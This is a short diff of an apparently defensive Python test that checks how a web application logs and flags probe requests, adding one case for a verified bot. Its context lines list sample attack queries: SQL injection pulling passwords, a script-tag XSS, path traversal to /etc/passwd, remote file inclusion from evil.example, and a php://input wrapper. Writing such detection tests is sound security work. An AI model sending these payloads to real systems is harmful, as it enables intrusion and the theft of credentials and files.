@@ -81,6 +81,7 @@ def test_table_of_sign_ins(world):
     for flag, query in [("sqli", "id=1%20UNION%20SELECT%20pass%20FROM%20users"), ("xss", "q=%3Cscript%3Ealert(1)%3C/script%3E"),
                         ("traversal", "f=../../../../etc/passwd"), ("rfi", "f=http://evil.example/x.txt?"), ("php_wrapper", "f=php://input")]:
         t.row(f"an attack: {flag}", get(f"/probe/none?{query}"), t.http("GET", "/probe/none", 200, "page", flags=[flag]))
+    t.row("a bot that a module knows", get("/probe/bot"), t.http("GET", "/probe/bot", 200, "page", bot="verified"))
     t.row("a scanner", get("/users/admin/?x=1", **{"User-Agent": "bot/1 (a@example.test)"}), t.http("GET", "/users/*/", 404, "page", "bot/1 *"))
     return t.done()
 
